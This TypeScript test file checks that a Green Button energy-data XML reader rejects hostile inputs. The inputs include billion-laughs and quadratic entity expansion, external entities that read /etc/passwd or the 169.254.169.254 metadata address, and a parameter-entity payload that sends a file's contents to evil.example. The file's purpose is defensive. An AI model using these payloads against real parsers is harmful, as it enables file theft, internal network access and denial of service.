/** Documents made to harm who reads them, each by its name: refused by its code, early, and in little memory; or read as what they are. */

import assert from 'node:assert/strict'
import test from 'node:test'
import { splitFeed } from './bytes/split-feed.ts'
import { GreenButtonError } from './findings.ts'
import { readGreenButton } from './read.ts'
import { readBatchList } from './resources/batch-list.ts'

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text)
const wide = (text: string, little = true): Uint8Array => {
  const view = new DataView(new ArrayBuffer(text.length * 2))
  for (let at = 0; at < text.length; at += 1) view.setUint16(at * 2, text.charCodeAt(at), little)
  return new Uint8Array(view.buffer)
}
const joined = (...parts: readonly (string | Uint8Array | readonly number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? bytesOf(part) : Uint8Array.from(part))))

const espi = 'xmlns="http://naesb.org/espi"'
const point = `<UsagePoint ${espi}><ServiceCategory><kind>0</kind></ServiceCategory></UsagePoint>`
const entry = (inner: string): string => `<entry><link rel="self" href="/UsagePoint/1"/><content>${inner}</content></entry>`
const [start, end] = ['<feed xmlns="http://www.w3.org/2005/Atom">', '</feed>']
const feed = (inner: string): string => `${start}${inner}${end}`
const inPoint = (inner: string | readonly number[] | Uint8Array): Uint8Array =>
  joined(
    `${start}<entry><content><UsagePoint ${espi}><ServiceCategory><kind>`,
    inner,
    '</kind></ServiceCategory></UsagePoint></content></entry></feed>',
  )
const block = (inner: string): string => feed(entry(`<IntervalBlock ${espi}>${inner}</IntervalBlock>`))
const reading =
  '<IntervalReading><timePeriod><start>1752465600</start><duration>900</duration></timePeriod><value>1</value></IntervalReading>'

/** What comes without end, up to a size that no test reaches unless nobody refuses. */
const endless = function* (before: string, again: string): Generator<Uint8Array> {
  const piece = bytesOf(again.repeat(Math.ceil(65536 / again.length)))
  yield bytesOf(before)
  for (let given = 0; given < 100e6; given += piece.length) yield piece
}

const laughs = (levels: number): string =>
  `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${Array.from({ length: levels }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n};`.repeat(10)}">`).join('')}]>`

const residentBefore = process.memoryUsage().rss
/** The default leaves room for a bulk file of half a million entries, each of which takes its memory. */
const limits = { entries: 50_000 }

type Attack = { code: string | readonly string[]; source: () => Uint8Array | Iterable<Uint8Array> }
const attack = (code: string | readonly string[], source: string | Uint8Array | (() => Iterable<Uint8Array>)): Attack => ({
  code,
  source: typeof source === 'function' ? source : () => (typeof source === 'string' ? bytesOf(source) : source),
})
const malformed = ['not_well_formed', 'truncated']
const tooMuch = ['token_too_long', 'text_too_long', 'too_many_attributes']

const attacks: Record<string, Attack> = {
  // Entities and what DOCTYPEs can do.
  'billion laughs': attack('doctype', `${laughs(9)}${feed('&lol9;')}`),
  'quadratic blow-up': attack('doctype', `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>${feed('&a;'.repeat(50_000))}`),
  'external entity of a file': attack('doctype', `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${feed('&a;')}`),
  'external entity of an address within': attack(
    'doctype',
    `<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/latest/">]>${feed('&a;')}`,
  ),
  'external subset': attack('doctype', `<!DOCTYPE feed SYSTEM "http://evil.example/a.dtd">${feed(entry(point))}`),
  'public identifier': attack('doctype', `<!DOCTYPE feed PUBLIC "-//x//y" "http://evil.example/a.dtd">${feed(entry(point))}`),
  'parameter entity': attack('doctype', `<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]>${feed('')}`),
  'parameter entity that carries data away': attack(
    'doctype',
    `<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; s SYSTEM 'http://evil.example/?%f;'>">%e;%s;]>${feed('')}`,
  ),
  'entity that names itself': attack('doctype', `<!DOCTYPE x [<!ENTITY a "&a;">]>${feed('&a;')}`),
  'attribute defaults from a DOCTYPE': attack('doctype', `<!DOCTYPE feed [<!ATTLIST feed a CDATA "x">]>${feed(entry(point))}`),
  'DOCTYPE in UTF-16': attack('doctype', wide(`\uFEFF${laughs(3)}${feed('&lol3;')}`)),
  'DOCTYPE without end': attack(['doctype', ...tooMuch], () => endless('<!DOCTYPE x [', '<!ENTITY a "b">')),
  'DOCTYPE behind a comment': attack('doctype', `<?xml version="1.0"?><!-- --><!DOCTYPE x>${feed('')}`),
  'DOCTYPE inside the root': attack(malformed, feed('<!DOCTYPE x>')),
  'an entity nobody declared': attack('not_well_formed', feed('&lol;')),
  'a reference to no character': attack('not_well_formed', feed('<id>&#x110000;</id>')),
  'a reference to half of a pair': attack('not_well_formed', feed('<id>&#xD800;</id>')),
  'an include of another document': attack(
    'read',
    feed(entry(`${point}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`)),
  ),
  'a style sheet from elsewhere': attack(
    'read',
    `<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>${feed(entry(point))}`,
  ),
  'a schema from elsewhere': attack(
    'read',
    feed(entry(point)).replace(
      '<feed',
      '<feed xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x file:///etc/passwd"',
    ),
  ),

  // Depth and number.
  'elements in elements without end': attack('too_deep', () => endless(start, '<a>')),
  'elements in elements of a resource': attack('too_deep', feed(entry(point.replace('<kind>', `${'<x>'.repeat(100_000)}<kind>`)))),
  'elements in elements of a reading': attack('too_deep', block(reading.replace('<value>', '<x>'.repeat(100_000)))),
  'attributes without end': attack(tooMuch, () => endless('<feed ', 'a="" ')),
  'a hundred thousand attributes': attack(tooMuch, `<feed ${Array.from({ length: 100_000 }, (_, n) => `a${n}=""`).join(' ')}/>`),
  'a hundred attributes on each element': attack(
    'too_many_attributes',
    feed(`<a ${Array.from({ length: 100 }, (_, n) => `a${n}=""`).join(' ')}/>`),
  ),
  'namespaces without end': attack(tooMuch, `<feed ${Array.from({ length: 50_000 }, (_, n) => `xmlns:n${n}="u"`).join(' ')}/>`),
  'entries without end': attack('too_many_entries', () => endless(start, '<entry></entry>')),
  'resources without end': attack('too_many_entries', () => endless(`${start}<entry><content>`, '<UsagePoint/>')),
  'interval blocks without end': attack('too_many_entries', () => endless(`${start}<entry><content>`, `<IntervalBlock ${espi}/>`)),
  'links without end': attack('resource_too_large', () => endless(`${start}<entry>`, '<link rel="related" href="/a"/>')),
  'elements of a resource without end': attack('resource_too_large', () => endless(`${start}<entry><content><UsagePoint ${espi}>`, '<x/>')),
  'a number in a million pieces': attack('text_too_long', block(reading.replace('<value>1', `<value>${'1<!---->'.repeat(200_000)}`))),

  // Work out of proportion.
  'readings of different millennia': attack(
    'read',
    block(reading + reading.replace('1752465600', '253402300000') + reading.replace('1752465600', '0')),
  ),
  'two thousand meters with holes of millennia': attack(
    'read',
    feed(
      Array.from({ length: 2000 }, (_, n) =>
        entry(`<IntervalBlock ${espi}>${reading}${reading.replace('1752465600', '253402300000')}</IntervalBlock>`).replace(
          '/UsagePoint/1',
          `/UsagePoint/${n}/MeterReading/1/IntervalBlock/1`,
        ),
      ).join(''),
    ),
  ),
  'time parameters of five hundred years': attack(
    'read',
    feed(
      Array.from({ length: 500 }, (_, n) =>
        entry(`<LocalTimeParameters ${espi}/>`).replace('</entry>', `<updated>${2000 + n}-01-01</updated></entry>`),
      ).join(''),
    ),
  ),
  'ten thousand bills of one year': attack(
    'read',
    feed(
      entry(`<IntervalBlock ${espi}>${reading.repeat(1000)}</IntervalBlock>`) +
        entry(
          `<UsageSummary ${espi}><billingPeriod><duration>31536000</duration><start>1735689600</start></billingPeriod><overallConsumptionLastPeriod><uom>72</uom><value>5</value></overallConsumptionLastPeriod></UsageSummary>`,
        ).repeat(10_000),
    ),
  ),
  'links of a thousand segments': attack(
    'read',
    feed(entry(`<IntervalBlock ${espi}/>`).replace('/UsagePoint/1', '/a'.repeat(2000)).repeat(500)),
  ),
  'the same reading ten thousand times': attack('read', block(reading.repeat(10_000))),

  // Size of one thing.
  'a name without end': attack(tooMuch, () => endless('<', 'a')),
  'an end tag without end': attack([...tooMuch, ...malformed], () => endless(`${start}</`, 'a')),
  'an attribute name without end': attack(tooMuch, () => endless('<feed ', 'a')),
  'an attribute without end': attack(tooMuch, () => endless('<feed a="', 'a')),
  'a comment without end': attack(tooMuch, () => endless(`${start}<!--`, 'a')),
  'an instruction without end': attack(tooMuch, () => endless(`${start}<?x `, 'a')),
  'CDATA without end': attack(tooMuch, () => endless(`${start}<![CDATA[`, 'a')),
  'text without end': attack(tooMuch, () => endless(`${start}<id>`, 'a')),
  'white space without end': attack(tooMuch, () => endless(start, ' ')),
  'white space in a tag without end': attack(tooMuch, () => endless('<feed ', ' ')),
  'an entity reference without end': attack([...tooMuch, ...malformed], () => endless(`${start}&`, 'a')),
  'a declaration without end': attack([...tooMuch, ...malformed], () => endless('<?xml version="1.0" ', ' ')),
  'a link of a megabyte': attack(['link_too_long', ...tooMuch], feed(`<link rel="self" href="${'/a'.repeat(20_000)}"/>`)),
  'white space before a reading without end': attack(tooMuch, () => endless(`${start}<entry><content><IntervalBlock ${espi}>`, ' ')),
  'a number without end': attack(tooMuch, () => endless(`${start}<entry><content><IntervalBlock ${espi}><IntervalReading><value>`, '9')),

  // Bytes that are no text.
  'an overlong less-than sign': attack('bad_encoding', inPoint([0xc0, 0xbc])),
  'an overlong zero': attack('bad_encoding', inPoint([0xc0, 0x80])),
  'an overlong slash of three bytes': attack('bad_encoding', inPoint([0xe0, 0x80, 0xaf])),
  'half of a pair in UTF-8': attack('bad_encoding', inPoint([0xed, 0xa0, 0x80])),
  'a character beyond the last': attack('bad_encoding', inPoint([0xf4, 0x90, 0x80, 0x80])),
  'a byte that continues nothing': attack('bad_encoding', inPoint([0x80])),
  'a character cut by markup': attack('bad_encoding', inPoint([0xc3])),
  'a character cut by the end': attack([...malformed, 'bad_encoding'], joined(feed(entry(point)), [0xe2, 0x82])),
  'bytes that no UTF-8 has': attack('bad_encoding', inPoint([0xfe, 0xff])),
  'half of a pair in UTF-16': attack('bad_encoding', joined(wide(`\uFEFF${start}`), [0x00, 0xd8], wide(end))),
  'half a unit of UTF-16': attack([...malformed, 'bad_encoding'], wide(`\uFEFF${feed(entry(point))}`).subarray(0, -1)),
  'half a unit of UTF-16 behind the end': attack('bad_encoding', joined(wide(`\uFEFF${feed(entry(point))}`), [0x20])),
  'UTF-16 in the middle of UTF-8': attack('not_well_formed', joined(start, wide('<entry/>'), end)),
  'UTF-8 in the middle of UTF-16, where it is other letters': attack('read', joined(wide(`\uFEFF${start}`), '<entry/>', wide(end))),
  'UTF-32': attack('unsupported_encoding', Uint8Array.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0])),
  'UTF-7 declared': attack('unsupported_encoding', '<?xml version="1.0" encoding="UTF-7"?>+ADw-feed+AD4-'),
  'EBCDIC declared': attack('unsupported_encoding', `<?xml version="1.0" encoding="EBCDIC-CP-US"?>${feed('')}`),
  'an encoding of a thousand letters': attack('read', `<?xml version="1.0" encoding="${'a'.repeat(1000)}"?>${feed('')}`),
  'UTF-16 declared of single bytes': attack('read', `<?xml version="1.0" encoding="UTF-16"?>${feed(entry(point))}`),
  'UTF-8 declared of UTF-16': attack('read', wide(`\uFEFF<?xml version="1.0" encoding="UTF-8"?>${feed(entry(point))}`)),
  'ASCII declared with other characters': attack('bad_encoding', joined('<?xml version="1.0" encoding="US-ASCII"?>', inPoint([0xe9]))),
  'two marks': attack('read', `\uFEFF\uFEFF${feed(entry(point))}`),
  'a zero byte in text': attack('not_well_formed', inPoint([0])),
  'a zero byte in a name': attack('not_well_formed', feed('<a\u0000b/>')),
  'a zero byte in front': attack(malformed, joined([0], feed(entry(point)))),
  'a zero byte behind': attack('not_well_formed', joined(feed(entry(point)), [0])),
  'zero bytes only': attack(['unsupported_encoding', ...malformed], new Uint8Array(10_000)),
  'a control character': attack('not_well_formed', inPoint([0x1b])),
  'U+FFFF': attack('not_well_formed', inPoint([0xef, 0xbf, 0xbf])),

  // Unfinished and displaced.
  'a start tag that is not finished': attack('truncated', `${start}<entry`),
  'an attribute that is not finished': attack('truncated', `${start}<entry a="`),
  'a comment that is not finished': attack('truncated', `${start}<!-- `),
  'CDATA that is not finished': attack('truncated', `${start}<![CDATA[ `),
  'an instruction that is not finished': attack('truncated', `${start}<?x `),
  'a reference that is not finished': attack('truncated', `${start}&am`),
  'a reading that is not finished': attack('truncated', block(reading).slice(0, -60)),
  'an end tag that is not finished': attack('truncated', feed(entry(point)).slice(0, -1)),
  'an end tag in front': attack(malformed, `</feed>${feed('')}`),
  'a declaration that comes late': attack('not_well_formed', ` <?xml version="1.0"?>${feed('')}`),
  'two documents in one': attack('not_well_formed', feed(entry(point)).repeat(2)),
  'the prefix xml bound to something': attack('not_well_formed', feed('<a xmlns:xml="urn:x"/>')),
  'a name of __proto__': attack(
    'read',
    feed(entry(`<UsagePoint ${espi} __proto__="x"><__proto__>1</__proto__><constructor>2</constructor></UsagePoint>`)),
  ),
  'a page of HTML': attack(['not_green_button', ...malformed], '<!-- --><html><body>Sign in</body></html>'),
  JSON: attack(malformed, '{"message":"Unauthorized. Access token is missing or invalid."}'),
}

const outcome = async (read: () => unknown): Promise<string> => {
  try {
    await read()
    return 'read'
  } catch (error) {
    if (error instanceof GreenButtonError) return error.code
    throw error
  }
}

test('the corpus holds a name for every kind', () => {
  assert.ok(Object.keys(attacks).length >= 80)
})

for (const [name, { code, source }] of Object.entries(attacks))
  test(`attack: ${name}`, async () => {
    const began = performance.now()
    const expected = [code].flat()
    const seen = await outcome(() => readGreenButton(source(), { limits }))
    assert.ok(expected.includes(seen), `${seen}, not ${expected.join(' or ')}`)
    const split = await outcome(() => splitFeed(source(), () => 'all', limits))
    assert.ok(split === seen || split === 'unsupported_encoding', `taken apart: ${split}, read: ${seen}`)
    const whole = source()
    if (whole instanceof Uint8Array) {
      const list = await outcome(() => readBatchList(whole, limits))
      assert.ok(list === seen || (seen === 'read' && list === 'not_batch_list'), `as a notification: ${list}, as a document: ${seen}`)
    }
    assert.ok(performance.now() - began < 5000)
    assert.equal(({} as Record<string, unknown>)['x'], undefined)
  })

test('all of it took little memory', () => {
  const most = process.resourceUsage().maxRSS * 1024 - residentBefore
  assert.ok(most < 256 * 1024 * 1024, `${Math.round(most / 1e6)} MB`)
})
